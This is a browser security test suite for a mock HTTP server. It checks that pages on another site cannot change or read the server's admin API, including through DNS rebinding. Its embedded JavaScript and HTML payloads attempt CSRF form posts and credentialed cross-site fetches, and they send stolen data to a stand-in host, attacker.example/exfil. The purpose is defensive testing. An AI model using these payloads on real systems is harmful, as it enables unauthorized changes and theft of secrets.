"""The attack chain of a page on another site, in a real Chromium: every step is refused.

The attacker's site is a small HTTP server of the test; Chromium resolves its name,
``attacker.example``, and the rebinding name ``evil.example`` to 127.0.0.1 itself
(``--host-resolver-rules``), so no traffic leaves the machine. The attacker's server
also receives whatever a page manages to send out.
"""

from __future__ import annotations

import base64
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import httpx
import pytest

from pretenders.server.embedded import EmbeddedServer
from tests.ui.chromium import chromium, missing

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(missing() is not None, reason=str(missing())),
]

ATTACKER = "attacker.example"
REBOUND = "evil.example"
TOKEN = "chain-token"
SECRET = "Bearer victim-secret-4711"

CHAIN = """<!doctype html><title>attacker</title><script>
const T = "{target}";
const json = (document) => ({{
  method: "POST", mode: "no-cors", credentials: "include",
  headers: {{"Content-Type": "text/plain"}}, body: JSON.stringify(document),
}});
(async () => {{
  await fetch(T + "/http", json({{name: "made-by-page"}})).catch(() => null);
  await fetch(T + "/preset/victim", json({{
    rule: "GET /evil", headers: {{"Content-Type": "text/html"}}, body: "{evil}", times: "FOREVER",
  }})).catch(() => null);
  let read;
  try {{
    const answer = await fetch(T + "/history/victim", {{credentials: "include"}});
    read = await answer.text();
  }} catch (error) {{ read = "blocked: " + error; }}
  await fetch("/exfil", {{method: "POST", body: "page: " + read}});
  document.title = "done";
}})();
</script>"""

TEXT_FORM = """<!doctype html><title>attacker</title>
<form method="post" action="{target}/http" enctype="text/plain">
<input name='{{"name": "made-by-form' value='"}}'></form>
<script>document.forms[0].submit()</script>"""

UI_FORM = """<!doctype html><title>attacker</title>
<form method="post" action="{target}/ui/mocks"><input name="name" value="made-by-ui-form"></form>
<script>document.forms[0].submit()</script>"""

GO_TO_REPLY = """<!doctype html><title>attacker</title>
<script>location = "{target}/mockhttp/victim/page";</script>"""

MOCK_REPLY = """<!doctype html><title>reply</title><script>
(async () => {{
  let read;
  try {{
    const answer = await fetch("/history/victim");
    read = answer.status + " " + await answer.text();
  }} catch (error) {{ read = "blocked: " + error; }}
  await fetch("/http", {{
    method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}},
    body: JSON.stringify({{name: "made-by-mock-reply"}}),
  }}).catch(() => null);
  let stored;
  try {{ localStorage.setItem("k", "v"); stored = "storage open"; }}
  catch (error) {{ stored = "storage closed"; }}
  await fetch("{attacker}/exfil", {{method: "POST", mode: "no-cors", body: "reply: " + read}});
  document.title = "ran: " + stored;
}})();
</script>"""


@dataclass
class AttackerSite:
    """Serves the attacker's pages and keeps what was sent to it."""

    pages: dict[str, str] = field(default_factory=dict)
    received: list[str] = field(default_factory=list)
    port: int = 0

    @property
    def url(self) -> str:
        return f"http://{ATTACKER}:{self.port}"


@pytest.fixture(scope="module")
def attacker() -> Iterator[AttackerSite]:
    site = AttackerSite()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = site.pages.get(self.path)
            body = (page or "not found").encode()
            self.send_response(200 if page else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            site.received.append(self.rfile.read(length).decode("utf-8", "replace"))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            """Quiet: the test reads ``received``."""

    http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site.port = http.server_address[1]
    thread = threading.Thread(target=http.serve_forever, daemon=True)
    thread.start()
    yield site
    http.shutdown()
    http.server_close()
    thread.join(10)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Its own Chromium, closed with the module, that resolves the test's names itself."""
    rules = f"MAP {ATTACKER} 127.0.0.1, MAP {REBOUND} 127.0.0.1"
    with chromium([f"--host-resolver-rules={rules}"]) as running:
        yield running


@pytest.fixture(scope="module")
def secured() -> Iterator[EmbeddedServer]:
    with EmbeddedServer(admin_token=TOKEN) as running:
        yield running


@dataclass
class Target:
    server: EmbeddedServer
    admin: httpx.Client
    token: str | None


def set_up_victim(server: EmbeddedServer, token: str | None) -> Iterator[Target]:
    """A named mock that recorded a secret, and serves an HTML page with a script."""
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    with httpx.Client(base_url=server.url, headers=headers, timeout=10) as admin:
        admin.post("/http", json={"name": "victim"}).raise_for_status()
        yield Target(server, admin, token)
        admin.delete("/http/victim")


@pytest.fixture(params=["open", "with-token"])
def target(request: pytest.FixtureRequest, secured: EmbeddedServer) -> Iterator[Target]:
    if request.param == "open":
        yield from set_up_victim(request.getfixturevalue("server"), None)
    else:
        yield from set_up_victim(secured, TOKEN)


@pytest.fixture
def context(browser: Browser, target: Target) -> Iterator[BrowserContext]:
    """A browser that holds the admin token (as after signing in to the UI) when there is one."""
    if target.token is None:
        opened = browser.new_context()
    else:
        opened = browser.new_context(http_credentials={"username": "me", "password": target.token})
    opened.set_default_timeout(15_000)
    if target.token is not None:  # signed in to the UI: the browser now holds the token
        signed_in = opened.new_page()
        answer = signed_in.goto(target.server.url + "/")
        assert answer is not None and answer.status == 200
        signed_in.close()
    yield opened
    opened.close()


def add_html_reply(target: Target, attacker: AttackerSite) -> None:
    """The reply a front-end developer might serve: a page whose script calls home."""
    html = MOCK_REPLY.format(attacker=attacker.url).encode()
    preset = {
        "rule": "GET /page",
        "headers": {"Content-Type": "text/html"},
        "body": base64.b64encode(html).decode(),
        "times": "FOREVER",
    }
    target.admin.post("/preset/victim", json=preset).raise_for_status()
    recorded = httpx.get(
        f"{target.server.url}/mockhttp/victim/api", headers={"Authorization": SECRET}
    )
    assert recorded.status_code == 404


def assert_nothing_changed(target: Target) -> None:
    names = {mock["name"] for mock in target.admin.get("/http").json()}
    assert not names & {"made-by-page", "made-by-form=", "made-by-ui-form", "made-by-mock-reply"}
    rules = [preset["rule"]["rule"] for preset in target.admin.get("/preset/victim").json()]
    assert rules == ["GET /page"]


def test_a_page_of_another_site_can_neither_change_nor_read_the_server(
    context: BrowserContext, target: Target, attacker: AttackerSite
) -> None:
    add_html_reply(target, attacker)
    evil = base64.b64encode(MOCK_REPLY.format(attacker=attacker.url).encode()).decode()
    attacker.pages["/chain"] = CHAIN.format(target=target.server.url, evil=evil)
    attacker.received.clear()
    page = context.new_page()

    page.goto(f"{attacker.url}/chain")
    page.wait_for_function("document.title === 'done'")

    assert_nothing_changed(target)
    assert len(attacker.received) == 1
    assert attacker.received[0].startswith("page: blocked: TypeError")
    assert SECRET not in attacker.received[0]


@pytest.mark.parametrize(
    ("path", "form"), [("/text-form", TEXT_FORM), ("/ui-form", UI_FORM)], ids=["api", "ui"]
)
def test_a_form_posted_from_another_site_is_refused(
    context: BrowserContext, target: Target, attacker: AttackerSite, path: str, form: str
) -> None:
    add_html_reply(target, attacker)
    attacker.pages[path] = form.format(target=target.server.url)
    page = context.new_page()

    with page.expect_response(lambda answer: answer.url.startswith(target.server.url)) as posted:
        page.goto(attacker.url + path)

    assert posted.value.status == 403
    assert "cross-site request" in posted.value.text()
    assert_nothing_changed(target)


def test_a_mock_reply_runs_its_script_but_cannot_reach_the_admin_api(
    context: BrowserContext, target: Target, attacker: AttackerSite
) -> None:
    add_html_reply(target, attacker)
    attacker.pages["/go"] = GO_TO_REPLY.format(target=target.server.url)
    attacker.received.clear()
    page = context.new_page()

    page.goto(f"{attacker.url}/go")
    page.wait_for_function("document.title.startsWith('ran')")

    assert page.url == f"{target.server.url}/mockhttp/victim/page"
    assert page.title() == "ran: storage closed"  # an opaque origin, not the server's
    assert_nothing_changed(target)
    [sent] = attacker.received
    assert sent.startswith("reply: blocked: TypeError"), sent
    assert SECRET not in sent
    history = target.admin.get("/history/victim").json()
    assert SECRET in json.dumps(history)  # it was there to steal


def test_a_rebound_name_gets_a_403_page_in_the_browser(
    browser: Browser, server: EmbeddedServer
) -> None:
    context = browser.new_context()
    try:
        page = context.new_page()
        answer = page.goto(f"http://{REBOUND}:{server.port}/")
        assert answer is not None and answer.status == 403
        assert f"--allowed-host {REBOUND}" in page.content()
    finally:
        context.close()


def test_the_ui_works_under_an_allowed_name(browser: Browser) -> None:
    from playwright.sync_api import expect

    with EmbeddedServer(allowed_hosts=(REBOUND,)) as named:
        context = browser.new_context(base_url=f"http://{REBOUND}:{named.port}")
        context.set_default_timeout(15_000)
        try:
            page = context.new_page()
            page.goto("/")
            page.locator('input[name="name"]').fill("by-name")
            page.get_by_role("button", name="New mock").click()  # its own Origin and Host
            expect(page.locator("h1")).to_have_text("by-name")
            expect(page.locator("#live-state")).to_have_attribute("data-state", "live")
            assert httpx.get(f"{named.url}/mockhttp/by-name/ping").status_code == 404
            row = page.locator('[data-table="requests"] tbody tr').first
            expect(row).to_contain_text("/ping")
        finally:
            context.close()
